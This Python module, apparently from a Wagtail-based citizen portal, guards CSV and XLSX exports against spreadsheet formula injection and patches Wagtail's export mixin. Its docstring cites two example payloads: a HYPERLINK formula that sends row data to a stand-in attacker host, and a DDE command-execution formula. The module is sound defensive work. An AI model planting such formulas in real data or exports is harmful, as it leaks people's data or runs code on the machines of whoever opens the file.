"""Spreadsheet cells that never become formulas (CSV / formula injection).

Excel and LibreOffice read a cell as a formula when it starts with ``=``, ``+``, ``-`` or
``@`` (also their full-width forms, and after a leading tab, carriage return or invisible
character): ``=HYPERLINK("https://evil.example/?"&A1, "Xem")`` in a citizen's name would
leak the row to whoever opens the export, ``=cmd|' /C calc'!A0`` runs a program on old
Excel. Every export of the portal goes through this module:

* CSV: a text cell that could be read as a formula gets a leading apostrophe (the OWASP
  advice; spreadsheet programs show the rest as text);
* XLSX: text is written as a string cell (data type ``s``, with Excel's "quote prefix" so
  that editing the cell keeps it text), never as a formula; the text itself is unchanged;
* the importer reads cells with ``cell_text``; what looks like a formula is stored as the
  text it is and only ever leaves through the two rules above.

``install_wagtail_export_guard`` applies the same rules to Wagtail's SpreadsheetExportMixin,
so the admin's own listings (reports, site history, viewsets with ``list_export``) are
covered too, without a copy of each view.
"""

from __future__ import annotations

from .text import is_invisible, visible_text

# First visible characters that make a spreadsheet program evaluate the cell.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# Control characters that spreadsheet programs skip before looking for a formula.
LEADING_CONTROLS = frozenset("\t\r\n\x0b\x0c")


def looks_like_formula(value) -> bool:
    """Whether a spreadsheet program could read this text cell as a formula."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in LEADING_CONTROLS:
        return True
    for char in value:
        if not is_invisible(char):
            return char in FORMULA_STARTS
    return False


def csv_text(value):
    """A CSV cell value: text that could be read as a formula is prefixed with an apostrophe."""
    if looks_like_formula(value):
        return "'" + value
    return value


def xlsx_cell(cell):
    """Make an openpyxl cell holding text a plain string cell, never a formula; returns the cell."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if looks_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


def set_xlsx_value(sheet, row: int, column: int, value):
    """``sheet.cell(row, column, value)`` for user data: text stays text."""
    return xlsx_cell(sheet.cell(row=row, column=column, value=value))


def cell_text(value) -> str:
    """The text of an imported cell: NFC, without surrounding blanks or invisible characters.

    Integral floats (Excel stores 2026 as 2026.0) read as integers. A text cell such as
    "\\t=1+1" is kept as the text "=1+1": it is never evaluated, and exports escape it.
    """
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    return visible_text(str(value))


def install_wagtail_export_guard() -> None:
    """Route Wagtail's CSV and XLSX listing exports through the rules above (idempotent)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_congphuong_guarded", False):
        return
    original_preprocess = SpreadsheetExportMixin.preprocess_field_value
    original_xlsx_row = SpreadsheetExportMixin.generate_xlsx_row

    def preprocess_field_value(self, field, value, export_format):
        processed = original_preprocess(self, field, value, export_format)
        return csv_text(processed) if export_format == self.FORMAT_CSV else processed

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in original_xlsx_row(self, worksheet, row_dict, date_format=date_format):
            yield xlsx_cell(cell)

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = generate_xlsx_row
    SpreadsheetExportMixin._congphuong_guarded = True
